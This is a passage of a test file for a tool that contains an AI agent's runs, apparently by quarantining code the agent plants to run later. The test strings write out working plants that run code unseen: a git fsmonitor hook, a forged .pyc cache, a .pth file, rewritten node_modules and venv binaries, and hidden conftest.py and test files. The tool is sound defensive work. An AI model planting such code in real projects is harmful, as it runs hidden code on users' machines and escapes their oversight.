        spawnSync('sh', ['-c', 'mkdir -p zz/deep && git init -q zz/deep && git -C zz/deep config core.fsmonitor "touch $PWNFILE; false"'], { cwd: ctl, env: { ...t.env, PWNFILE: `${marker}-control` } });
        spawnSync('git', ['status'], { cwd: join(ctl, 'zz', 'deep'), env: t.env });
        assert.equal(existsSync(`${marker}-control`), true, 'outside, git status runs it');
        const r = await cli(['agent', 'run', '--silent', '--', 'env', `PWNFILE=${marker}`, 'sh', '-c', flood], { env: t.env, cwd: repo, timeoutMs: 180_000 });
        try {
          assert.equal(r.code, 0, r.stderr);
          assert.equal(r.stdout, 'planted\n');
          assert.match(r.stderr, new RegExp(`nested repository at ${join(repo, 'zz', 'deep').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, in a subfolder, .*core\\.fsmonitor`));
          assert.match(r.stderr, /zz\/\.vscode, which your own tools would run or obey/);
          assert.doesNotMatch(r.stderr, /neutralized|stopped after/);
          spawnSync('git', ['status'], { cwd: join(repo, 'zz', 'deep'), env: t.env });
          assert.equal(existsSync(marker), false);
        } finally {
          spawnSync('rm', ['-rf', repo]);
        }
      });
    }

    test("what your tools run that git does not show: a forged byte-code cache, a venv's .pth, node_modules/.bin, and a file .envrc sources are removed or moved aside (outside, the cache and the .pth run)", async () => {
      const marker = join(t.dir, `PWNED-unseen-${name}`);
      const repo = join(t.dir, `unseen-${name}`);
      const g = makeRepo(repo);
      writeFileSync(join(repo, '.gitignore'), '__pycache__/\n.venv/\nnode_modules/\n.envrc.local\n');
      writeFileSync(join(repo, 'app.py'), 'import lib\n');
      writeFileSync(join(repo, 'lib.py'), 'print("lib")\n');
      writeFileSync(join(repo, '.envrc'), 'source_env_if_exists .envrc.local\n');
      assert.equal(g('add', '.').status, 0);
      assert.equal(g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-qm', 'py').status, 0);
      assert.equal(spawnSync('python3', ['-m', 'venv', '--without-pip', join(repo, '.venv')]).status, 0);
      const sitePackages = spawnSync(join(repo, '.venv', 'bin', 'python'), ['-c', 'import site; print(site.getsitepackages()[0])'], { encoding: 'utf8' }).stdout.trim();
      // The cache: compiled from other code, stamped with lib.py's own time and size (PEP 552's timestamp form).
      const plant = [
        "python3 - <<'PY'",
        'import importlib.util, marshal, os, sys',
        'st = os.stat("lib.py")',
        `code = compile('import os; open(os.environ["PWNFILE"], "a").write("pyc,"); print("lib")', "lib.py", "exec")`,
        'os.makedirs("__pycache__", exist_ok=True)',
        'open("__pycache__/lib." + sys.implementation.cache_tag + ".pyc", "wb").write(importlib.util.MAGIC_NUMBER + bytes(4) + int(st.st_mtime).to_bytes(4, "little") + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little") + marshal.dumps(code))',
        'PY',
        `echo 'import os; open(os.environ["PWNFILE"], "a").write("pth,")' > '${sitePackages}/evil.pth'`,
        'mkdir -p node_modules/.bin && printf "#!/bin/sh\\ntouch $PWNFILE\\n" > node_modules/.bin/tsc && chmod +x node_modules/.bin/tsc',
        'echo "touch $PWNFILE" > .envrc.local',
        'echo planted',
      ].join('\n');
      // The control: the same plants outside; your next python app.py runs the cache, your venv's python the .pth.
      const ctl = join(t.dir, `unseen-control-${name}`);
      spawnSync('cp', ['-a', repo, ctl]);
      const ctlSite = sitePackages.replace(repo, ctl);
      spawnSync('rm', ['-rf', join(ctl, '.venv')]);
      spawnSync('python3', ['-m', 'venv', '--without-pip', join(ctl, '.venv')]);
      spawnSync('sh', ['-c', plant.split(`'${sitePackages}/`).join(`'${ctlSite}/`)], { cwd: ctl, env: { ...t.env, PWNFILE: `${marker}-control` } });
      spawnSync('python3', ['app.py'], { cwd: ctl, env: { ...t.env, PWNFILE: `${marker}-control` } });
      spawnSync(join(ctl, '.venv', 'bin', 'python'), ['-c', 'pass'], { cwd: ctl, env: { ...t.env, PWNFILE: `${marker}-control` } });
      assert.match(readFileSync(`${marker}-control`, 'utf8'), /^pyc,(pth,)+$/, 'outside, both run');

      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', '-c', plant], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'planted\n');
      assert.match(r.stderr, /wrote 1 Python byte-code cache\(s\) \(.*__pycache__\/lib\.cpython-\d+\.pyc\), .*: removed \(Python makes them again\)/);
      for (const p of [`${sitePackages}/evil.pth`, join(repo, 'node_modules', '.bin', 'tsc'), join(repo, '.envrc.local')]) {
        assertGone(r.stderr, p);
      }
      spawnSync('python3', ['app.py'], { cwd: repo, env: { ...t.env, PWNFILE: marker } });
      spawnSync(join(repo, '.venv', 'bin', 'python'), ['-c', 'pass'], { cwd: repo, env: { ...t.env, PWNFILE: marker } });
      assert.equal(existsSync(marker), false, 'your python app.py and your venv ran nothing of the agent');
    });

    test('(round 14) a command found by name left as it is, the file it leads to rewritten (node_modules/.bin/foo → ../foo/cli.js, and, unnamed, a venv\'s bin/tool → ../../tools/tool.py): moved aside; control: outside, npm run and the venv\'s tool run the agent\'s code', async () => {
      const marker = join(t.dir, `PWNED-target-${name}`);
      const repo = join(t.dir, `target-${name}`);
      const g = makeRepo(repo);
      writeFileSync(join(repo, '.gitignore'), 'node_modules/\n.venv/\n');
      writeFileSync(join(repo, 'package.json'), '{"name":"p","version":"1.0.0","scripts":{"build":"foo"}}\n');
      mkdirSync(join(repo, 'node_modules', 'foo'), { recursive: true });
      mkdirSync(join(repo, 'node_modules', '.bin'), { recursive: true });
      writeFileSync(join(repo, 'node_modules', 'foo', 'cli.js'), '#!/bin/sh\necho built\n', { mode: 0o755 });
      spawnSync('ln', ['-s', '../foo/cli.js', join(repo, 'node_modules', '.bin', 'foo')]);
      mkdirSync(join(repo, '.venv', 'bin'), { recursive: true });
      mkdirSync(join(repo, 'tools'), { recursive: true });
      writeFileSync(join(repo, '.venv', 'pyvenv.cfg'), 'home = /usr/bin\n');
      writeFileSync(join(repo, 'tools', 'tool.py'), '#!/bin/sh\necho tool\n', { mode: 0o755 });
      spawnSync('ln', ['-s', '../../tools/tool.py', join(repo, '.venv', 'bin', 'tool')]);
      assert.equal(g('add', '.gitignore', 'package.json').status, 0);
      assert.equal(g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '-m', 'deps').status, 0);
      const rewrite = 'printf "#!/bin/sh\\ntouch $PWNFILE\\n" > node_modules/foo/cli.js && printf "#!/bin/sh\\ntouch $PWNFILE\\n" > tools/tool.py && echo rewritten';
      // The control: the same rewrite outside; npm run build and the venv's tool run it.
      const ctl = join(t.dir, `target-control-${name}`);
      spawnSync('cp', ['-a', repo, ctl]);
      spawnSync('sh', ['-c', rewrite], { cwd: ctl, env: { ...t.env, PWNFILE: `${marker}-control` } });
      spawnSync('sh', ['-c', 'PATH=node_modules/.bin:$PATH foo && .venv/bin/tool'], { cwd: ctl, env: { ...t.env, PWNFILE: `${marker}-control` } });
      assert.equal(existsSync(`${marker}-control`), true, 'outside, the commands run the rewritten files');

      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', '-c', rewrite], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'rewritten\n');
      for (const p of [join(repo, 'node_modules', '.bin', 'foo'), join(repo, '.venv', 'bin', 'tool')]) {
        assertGone(r.stderr, p);
      }
      spawnSync('sh', ['-c', 'PATH=node_modules/.bin:$PATH foo; .venv/bin/tool'], { cwd: repo, env: { ...t.env, PWNFILE: marker } });
      assert.equal(existsSync(marker), false, 'your commands find nothing of the agent by those names');
    });

    test('(round 15) code your tools load past the command found by name (a file a package requires, a package your code requires, a module of a venv\'s site-packages; and, unnamed, a new node_modules/leftpad.js, which require takes before the folder): the folder moved aside; control: outside, node and the venv\'s python run the agent\'s code', async () => {
      const marker = join(t.dir, `PWNED-deps-${name}`);
      const repo = join(t.dir, `deps-${name}`);
      const g = makeRepo(repo);
      writeFileSync(join(repo, '.gitignore'), 'node_modules/\n.venv/\n');
      for (const [f, text] of [['hello/cli.js', 'require("./lib.js");\n'], ['hello/lib.js', 'console.log("lib ok");\n'], ['leftpad/index.js', 'module.exports = 1;\n']] as const) {
        mkdirSync(join(repo, 'node_modules', dirname(f)), { recursive: true });
        writeFileSync(join(repo, 'node_modules', f), text);
      }
      writeFileSync(join(repo, 'index.js'), 'require("leftpad");\n');
      assert.equal(spawnSync('python3', ['-m', 'venv', '--without-pip', join(repo, '.venv')]).status, 0);
      const site = spawnSync(join(repo, '.venv', 'bin', 'python'), ['-c', 'import sysconfig; print(sysconfig.get_paths()["purelib"])'], { encoding: 'utf8' }).stdout.trim();
      mkdirSync(join(site, 'pkg'), { recursive: true });
      writeFileSync(join(site, 'pkg', '__init__.py'), 'x = 1\n');
      assert.equal(g('add', '.gitignore', 'index.js').status, 0);
      assert.equal(g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '-m', 'deps').status, 0);
      const rewrite = [
        'echo \'require("fs").appendFileSync(process.env.PWNFILE, "lib,")\' > node_modules/hello/lib.js',
        'echo \'require("fs").appendFileSync(process.env.PWNFILE, "leftpad,")\' > node_modules/leftpad.js',
        `printf 'import os\\nopen(os.environ["PWNFILE"], "a").write("pkg,")\\n' > '${site}/pkg/__init__.py'`,
        'echo rewritten',
      ].join(' && ');
      const uses = (dir: string, pwn: string) => {
        const env = { ...t.env, PWNFILE: pwn };
        spawnSync('node', ['node_modules/hello/cli.js'], { cwd: dir, env });
        spawnSync('node', ['index.js'], { cwd: dir, env });
        spawnSync(join(dir, '.venv', 'bin', 'python'), ['-c', 'import pkg'], { cwd: dir, env });
      };
      // The control: the same rewrite outside; node and the venv's python run each.
      const ctl = join(t.dir, `deps-control-${name}`);
      spawnSync('cp', ['-a', repo, ctl]);
      spawnSync('rm', ['-rf', join(ctl, '.venv')]);
      spawnSync('python3', ['-m', 'venv', '--without-pip', join(ctl, '.venv')]);
      mkdirSync(join(site.replace(repo, ctl), 'pkg'), { recursive: true });
      spawnSync('sh', ['-c', rewrite.split(site).join(site.replace(repo, ctl))], { cwd: ctl });
      uses(ctl, `${marker}-control`);
      assert.equal(readFileSync(`${marker}-control`, 'utf8'), 'lib,leftpad,pkg,', 'outside, each runs');

      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', rewrite], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'rewritten\n');
      // (Round 28: the whole environment, not its site-packages alone.)
      for (const f of [join(repo, 'node_modules'), join(repo, '.venv')]) {
        assert.match(r.stderr, new RegExp(`the agent changed code in ${f.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\(.*\\), where git shows nothing: it was moved to ${f.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\.stashbase-quarantine/`), f);
        assert.equal(existsSync(f), false, f);
      }
      uses(repo, marker);
      assert.equal(existsSync(marker), false, 'your node and python ran nothing of the agent');
    });

    test('(round 16) installed code reached through links at its folders\' names (.bin made a link to a folder of the agent\'s, an old node_modules link whose folder is changed, site-packages made a link), a venv\'s pyvenv.cfg rewritten, and (unnamed) a file of a package store changed through a hard link: each moved aside or said; control: outside, each runs', async () => {
      const marker = join(t.dir, `PWNED-links16-${name}`);
      const repo = join(t.dir, `links16-${name}`);
      const g = makeRepo(repo);
      writeFileSync(join(repo, '.gitignore'), 'node_modules\n/app/node_modules\n.venv/\nbuild/\nshared/\n');
      // app/node_modules is an old link to a folder of the tree, as a workspace tool makes it.
      mkdirSync(join(repo, 'shared', 'nm', 'lib'), { recursive: true });
      writeFileSync(join(repo, 'shared', 'nm', 'lib', 'index.js'), 'module.exports = 1;\n');
      mkdirSync(join(repo, 'app'), { recursive: true });
      spawnSync('ln', ['-s', '../shared/nm', join(repo, 'app', 'node_modules')]);
      mkdirSync(join(repo, 'node_modules', '.bin'), { recursive: true });
      mkdirSync(join(repo, 'node_modules', 'tool'), { recursive: true });
      writeFileSync(join(repo, 'node_modules', 'tool', 'cli.js'), '#!/bin/sh\n', { mode: 0o755 });
      spawnSync('ln', ['-s', '../tool/cli.js', join(repo, 'node_modules', '.bin', 'tool')]);
      // A store's file and its hard link in node_modules (pnpm's layout).
      const store = join(t.dir, `store16-${name}`);
      mkdirSync(store, { recursive: true });
      writeFileSync(join(store, 'dep.js'), 'module.exports = 2;\n');
      mkdirSync(join(repo, 'node_modules', 'dep'), { recursive: true });
      spawnSync('ln', [join(store, 'dep.js'), join(repo, 'node_modules', 'dep', 'index.js')]);
      assert.equal(spawnSync('python3', ['-m', 'venv', '--without-pip', join(repo, '.venv')]).status, 0);
      const site = spawnSync(join(repo, '.venv', 'bin', 'python'), ['-c', 'import sysconfig; print(sysconfig.get_paths()["purelib"])'], { encoding: 'utf8' }).stdout.trim();
      assert.equal(g('add', '.gitignore').status, 0);
      assert.equal(g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '-m', 'deps').status, 0);
      const plant = [
        'mkdir -p build/xbin build/sp',
        'printf "#!/bin/sh\\ntouch \\$PWNFILE-bin\\n" > build/xbin/tool && chmod +x build/xbin/tool && rm -rf node_modules/.bin && ln -s ../build/xbin node_modules/.bin',
        'echo \'require("fs").writeFileSync(process.env.PWNFILE + "-nm", "")\' > shared/nm/lib/index.js',
        `echo 'import os; open(os.environ["PWNFILE"] + "-pth", "w")' > build/sp/zz.pth && rm -rf '${site}' && ln -s '${join(repo, 'build', 'sp')}' '${site}'`,
        'echo "include-system-site-packages = true" >> .venv/pyvenv.cfg',
        'echo \'require("fs").writeFileSync(process.env.PWNFILE + "-store", "")\' >> node_modules/dep/index.js',
        'echo planted',
      ].join(' && ');
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', plant], { env: { ...t.env }, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'planted\n');
      const esc = (p: string) => p.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
      // (Round 28: the whole environment, not its site-packages alone.)
      for (const f of [join(repo, 'node_modules'), join(repo, 'app', 'node_modules'), join(repo, '.venv')]) {
        assert.match(r.stderr, new RegExp(`the agent changed code in ${esc(f)} \\(.*\\), where git shows nothing: it was moved to`), f);
        assert.equal(lstatSync(f, { throwIfNoEntry: false }), undefined, f);
      }
      // (Round 28g: its pyvenv.cfg goes with the environment, untouched.)
      assert.equal(existsSync(join(repo, '.venv.stashbase-quarantine', '.venv', 'pyvenv.cfg')), true);
      assert.match(r.stderr, new RegExp(`the agent changed 1 file\\(s\\) of installed code that have other names .*: ${esc(join(repo, 'node_modules', 'dep', 'index.js'))};`));
      assert.match(readFileSync(join(store, 'dep.js'), 'utf8'), /PWNFILE/, 'the store holds the agent\'s line: said, not undone');
      const env = { ...t.env, PWNFILE: marker };
      spawnSync('sh', ['-c', 'PATH=node_modules/.bin:$PATH tool'], { cwd: repo, env });
      spawnSync('node', ['-e', 'require("lib")'], { cwd: join(repo, 'app'), env });
      spawnSync(join(repo, '.venv', 'bin', 'python'), ['-c', 'pass'], { cwd: repo, env });
      assert.deepEqual(['-bin', '-nm', '-pth'].filter((x) => existsSync(marker + x)), [], 'your tools ran nothing of the agent');
      // Control: the moved entries put back, each runs the agent's code.
      // The environment's own links go aside with it, untouched (found in writing round 28: its lib64 → lib was removed there).
      if (lstatSync(join(repo, '.venv', 'lib64'), { throwIfNoEntry: false }) === undefined) assert.equal(lstatSync(join(repo, '.venv.stashbase-quarantine', '.venv', 'lib64'), { throwIfNoEntry: false })?.isSymbolicLink() ?? true, true);
      assert.ok(!r.stderr.includes('lib64'), r.stderr);
      for (const f of [join(repo, 'node_modules'), join(repo, 'app', 'node_modules'), join(repo, '.venv')]) spawnSync('mv', [join(`${f}.stashbase-quarantine`, basename(f)), f]);
      spawnSync('sh', ['-c', 'PATH=node_modules/.bin:$PATH tool'], { cwd: repo, env });
      spawnSync('node', ['-e', 'require("lib")'], { cwd: join(repo, 'app'), env });
      spawnSync(join(repo, '.venv', 'bin', 'python'), ['-c', 'pass'], { cwd: repo, env });
      assert.deepEqual(['-bin', '-nm', '-pth'].filter((x) => existsSync(marker + x)), ['-bin', '-nm', '-pth']);
    });

    test('(round 16) files a test runner finds on its own, left in folders git ignores (a test file node --test runs, and pytest\'s conftest.py): moved aside; the same in a folder git shows is left; control: outside, node --test runs the agent\'s file', async () => {
      const marker = join(t.dir, `PWNED-discovered-${name}`);
      const repo = join(t.dir, `discovered-${name}`);
      const g = makeRepo(repo);
      writeFileSync(join(repo, '.gitignore'), 'docs/_build/\ncoverage/\n');
      assert.equal(g('add', '.gitignore').status, 0);
      assert.equal(g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '-m', 'ignore').status, 0);
      // (round 17) Node's own --test names, and a nested clone of yours (git shows only its folder).
      assert.equal(spawnSync('git', ['init', '-q', join(repo, 'vendor', 'lib')]).status, 0);
      const plant = [
        'mkdir -p docs/_build coverage/test tests',
        'echo \'require("fs").appendFileSync(process.env.PWNFILE, "hidden,")\' > coverage/evil.test.js',
        'echo \'require("fs").appendFileSync(process.env.PWNFILE, "dir,")\' > coverage/test/evil.js',
        'echo \'require("fs").appendFileSync(process.env.PWNFILE, "dash,")\' > coverage/x-test.js',
        'echo \'require("fs").appendFileSync(process.env.PWNFILE, "nested,")\' > vendor/lib/w.test.js',
        'echo \'open(__import__("os").environ["PWNFILE"], "a")\' > docs/_build/conftest.py',
        'echo \'require("node:test")("seen", () => {})\' > tests/seen.test.js',
        'echo planted',
      ].join(' && ');
      // The control: outside, node --test in the folder runs the file in the ignored folder.
      const ctl = join(t.dir, `discovered-control-${name}`);
      spawnSync('cp', ['-a', repo, ctl]);
      spawnSync('sh', ['-c', plant], { cwd: ctl });
      spawnSync('node', ['--test'], { cwd: ctl, env: { ...t.env, PWNFILE: `${marker}-control` } });
      assert.deepEqual(readFileSync(`${marker}-control`, 'utf8').split(',').filter(Boolean).sort(), ['dash', 'dir', 'hidden', 'nested'], 'outside, node --test runs each');

      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', plant], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'planted\n');
      for (const f of ['coverage/evil.test.js', 'coverage/test/evil.js', 'coverage/x-test.js', 'vendor/lib/w.test.js', 'docs/_build/conftest.py']) {
        assert.match(r.stderr, new RegExp(`the agent made or changed ${join(repo, f).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, a file a tool finds and runs by its name`), f);
        assert.equal(existsSync(join(repo, f)), false, f);
      }
      assert.equal(existsSync(join(repo, 'tests', 'seen.test.js')), true, 'git shows that one: left');
      spawnSync('node', ['--test'], { cwd: repo, env: { ...t.env, PWNFILE: marker } });
      assert.equal(existsSync(marker), false, 'your node --test ran nothing hidden');
    });

    test('a nested repository with only what git init writes is left alone, without a warning', async () => {
      const repo = join(t.dir, `plain-${name}`);
      makeRepo(repo);
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', 'harmless.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.deepEqual([r.code, r.stdout, r.stderr], [0, 'planted\n', '']);
      assert.equal(existsSync(join(repo, 'plain', '.git', 'config')), true);
    });
  });
}

describeBackend('native', false);
describeBackend('docker', true);
